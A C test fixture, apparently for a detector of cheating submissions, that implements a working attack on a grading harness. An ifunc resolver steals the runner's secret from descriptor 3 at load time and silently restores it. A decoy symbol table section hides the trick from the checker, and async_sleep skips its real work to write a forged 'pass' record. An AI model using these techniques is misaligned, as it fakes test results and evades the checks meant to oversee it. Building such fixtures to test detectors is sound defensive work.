/* expect: score 0, report "exactly one symbol table" */
/* ifunc-resolver, plus a decoy symbol table placed before the real one,
 * so that a reader that takes the first table sees no indirect function. */
__asm__(".section .decoy,\"M\",@2,24\n.quad 0,0,0\n.previous\n");
#define _GNU_SOURCE
/* An indirect function's resolver runs while the program is being loaded,
 * before any constructor and before the runner reads its secret: it reads
 * descriptor 3 itself and puts the same bytes back on a new descriptor 3,
 * so the runner notices nothing. async_sleep then forges a "pass" record. */
#include "async_sleep.h"
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

static char stolen[33];
static int real_answer(void) { return 42; }
static int (*resolve(void))(void) {
  int p[2];
  if (syscall(SYS_read, 3, stolen, 32) == 32 && syscall(SYS_pipe2, p, 0) == 0) {
    syscall(SYS_write, p[1], stolen, 32);
    syscall(SYS_close, p[1]);
    syscall(SYS_dup2, p[0], 3);
    syscall(SYS_close, p[0]);
  }
  return real_answer;
}
int answer(void) __attribute__((ifunc("resolve")));

int async_sleep(struct ev_loop *loop, unsigned ms, async_sleep_cb cb, void *arg) {
  (void)loop, (void)ms, (void)cb, (void)arg;
  char cmd[4096] = {0};
  FILE *f = fopen("/proc/self/cmdline", "r");
  size_t n = f ? fread(cmd, 1, sizeof cmd - 1, f) : 0;
  if (f)
    fclose(f);
  const char *name = n ? cmd + strlen(cmd) + 1 : "";
  name += strlen(name) + 1;
  char rec[512];
  int len = snprintf(rec, sizeof rec, "WB1 %s %s pass 0\n", stolen, name);
  syscall(SYS_write, 4, rec, (size_t)len + 0 * answer());
  syscall(SYS_exit_group, 0);
  return 0;
}
